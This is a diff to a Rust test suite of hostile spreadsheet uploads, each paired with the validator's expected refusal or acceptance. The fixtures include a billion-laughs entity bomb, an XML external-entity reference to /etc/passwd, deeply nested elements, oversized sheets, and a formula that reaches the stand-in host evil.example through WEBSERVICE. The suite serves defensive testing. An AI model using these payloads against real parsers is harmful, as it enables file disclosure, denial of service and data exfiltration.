@@ -25,7 +25,9 @@ const UNIT: &str = "kien-giang/huyen-giang-thanh/xa-phu-loi";
 /// Files sent as spreadsheets.
 pub fn tables() -> Vec<Hostile> {
     let mut all = packed();
-    all.extend(documents());
+    all.extend(declared());
+    all.extend(oversized());
+    all.extend(contents());
     all.extend(others());
     all.extend(texts());
     all
@@ -88,35 +90,18 @@ fn packed() -> Vec<Hostile> {
     ]
 }
 
-/// Lies of the documents in it.
-fn documents() -> Vec<Hostile> {
+/// Documents that declare, or lead, where none should.
+fn declared() -> Vec<Hostile> {
     let laughs = "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">\
         <!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>";
-    let bomb = format!(
-        "{laughs}<worksheet><sheetData><row r=\"1\">{}</row></sheetData>\
-        </worksheet>",
-        words("A1", "&c;")
-    );
+    let row = words("A1", "&c;");
+    let bomb =
+        format!("{laughs}<worksheet><sheetData><row r=\"1\">{row}</row></sheetData></worksheet>");
     let outside = "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><workbook/>";
-    let deep = "<row r=\"1\">".repeat(300_000);
-    let wide: String = (0..300).map(|at| format!("<c><v>{at}</v></c>")).collect();
-    let long = "ă".repeat(40_000);
-    let rows: String =
-        (1..=20_001).map(|at| format!("<row r=\"{at}\"><c><v>1</v></c></row>")).collect();
-    let claims = "<worksheet><dimension ref=\"A1:XFD1048576\"/><sheetData>";
-    let far = format!(
-        "{claims}<row r=\"1\">{}</row><row r=\"1048576\">{}</row></sheetData>\
-        </worksheet>",
-        words("A1", "unit"),
-        words("XFD1048576", "x")
-    );
-    let near =
-        format!("{claims}<row r=\"1\">{}</row></sheetData></worksheet>", words("A1", "unit"));
-    let attribute =
-        format!("<row r=\"1\" x=\"{}\"><c r=\"A1\"><v>1</v></c></row>", "y".repeat(9_000_000));
     let own = RELS.replace("worksheets/sheet1.xml", "workbook.xml");
-    let back =
-        "<row r=\"9\"><c r=\"A9\"><v>1</v></c></row><row r=\"2\"><c r=\"A2\"><v>1</v></c></row>";
+    let circle = [("xl/_rels/workbook.xml.rels", own.as_bytes())];
+    let deep = "<row r=\"1\">".repeat(300_000);
+    let broken = b"\x00\x01\x02 <worksheet";
     vec![
         ("laughter without end", book_of(bomb.as_bytes(), &[]), Refused("file-damaged")),
         (
@@ -124,7 +109,28 @@ fn documents() -> Vec<Hostile> {
             book_of(&sheet(""), &[("xl/workbook.xml", outside.as_bytes())]),
             Refused("file-damaged"),
         ),
+        ("relations in a circle", book_of(&sheet(""), &circle), Refused("file-damaged")),
         ("three hundred thousand open elements", book(&deep), Refused("file-empty")),
+        ("a sheet that is no document", book_of(broken, &[]), Refused("file-damaged")),
+    ]
+}
+
+/// Sheets that are, or claim to be, larger than any.
+fn oversized() -> Vec<Hostile> {
+    let wide: String = (0..300).map(|at| format!("<c><v>{at}</v></c>")).collect();
+    let wide = format!("<row r=\"1\">{wide}</row>");
+    let rows: String =
+        (1..=20_001).map(|at| format!("<row r=\"{at}\"><c><v>1</v></c></row>")).collect();
+    let claims = "<worksheet><dimension ref=\"A1:XFD1048576\"/><sheetData>";
+    let near = format!("{claims}<row r=\"1\">{}</row>", words("A1", "unit"));
+    let last = words("XFD1048576", "x");
+    let far = format!("{near}<row r=\"1048576\">{last}</row></sheetData></worksheet>");
+    let near = format!("{near}</sheetData></worksheet>");
+    let beyond = "<row r=\"16777217\"><c r=\"A16777217\"><v>1</v></c></row>";
+    let long = format!("<row r=\"1\">{}</row>", words("A1", &"ă".repeat(40_000)));
+    let attribute =
+        format!("<row r=\"1\" x=\"{}\"><c r=\"A1\"><v>1</v></c></row>", "y".repeat(9_000_000));
+    vec![
         (
             "cells at both ends of the largest sheet",
             book_of(far.as_bytes(), &[]),
@@ -135,46 +141,25 @@ fn documents() -> Vec<Hostile> {
             book_of(near.as_bytes(), &[]),
             Refused("exchange-no-table"),
         ),
-        (
-            "a row of sixteen million",
-            book("<row r=\"16777217\"><c r=\"A16777217\"><v>1</v></c></row>"),
-            Refused("file-too-many-rows"),
-        ),
+        ("a row of sixteen million", book(beyond), Refused("file-too-many-rows")),
         ("twenty thousand rows and one", book(&rows), Refused("file-too-many-rows")),
-        (
-            "three hundred columns",
-            book(&format!("<row r=\"1\">{wide}</row>")),
-            Refused("file-too-many-rows"),
-        ),
-        (
-            "a cell of forty thousand letters",
-            book(&format!("<row r=\"1\">{}</row>", words("A1", &long))),
-            Refused("file-long-cell"),
-        ),
+        ("three hundred columns", book(&wide), Refused("file-too-many-rows")),
+        ("a cell of forty thousand letters", book(&long), Refused("file-long-cell")),
         ("an attribute of nine megabytes", book(&attribute), Refused("exchange-no-table")),
+    ]
+}
+
+/// Cells that are not what they say.
+fn contents() -> Vec<Hostile> {
+    let back =
+        "<row r=\"9\"><c r=\"A9\"><v>1</v></c></row><row r=\"2\"><c r=\"A2\"><v>1</v></c></row>";
+    let lost = "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>99</v></c></row>";
+    let reaches = "<f>'[1]http://evil.example/x'!A1+WEBSERVICE(\"http://x\")</f>";
+    let reaches = format!("<c r=\"B2\">{reaches}<v>12</v></c>");
+    vec![
         ("rows that run backwards", book(back), Refused("file-damaged")),
-        (
-            "shared words that are not there",
-            book("<row r=\"1\"><c r=\"A1\" t=\"s\"><v>99</v></c></row>"),
-            Refused("file-damaged"),
-        ),
-        (
-            "relations that run in a circle",
-            book_of(&sheet(""), &[("xl/_rels/workbook.xml.rels", own.as_bytes())]),
-            Refused("file-damaged"),
-        ),
-        (
-            "a sheet that is no document",
-            book_of(b"\x00\x01\x02 <worksheet", &[]),
-            Refused("file-damaged"),
-        ),
-        (
-            "a formula that reaches out",
-            figures(
-                "<c r=\"B2\"><f>'[1]http://evil.example/x'!A1+WEBSERVICE(\"http://x\")</f><v>12</v></c>",
-            ),
-            Taken,
-        ),
+        ("shared words that are not there", book(lost), Refused("file-damaged")),
+        ("a formula that reaches out", figures(&reaches), Taken),
         ("a number that is none", figures("<c r=\"B2\"><v>NaN</v></c>"), Taken),
         ("a number beyond all counting", figures("<c r=\"B2\"><v>1e308</v></c>"), Taken),
         ("a number below nought", figures("<c r=\"B2\"><v>-12</v></c>"), Taken),
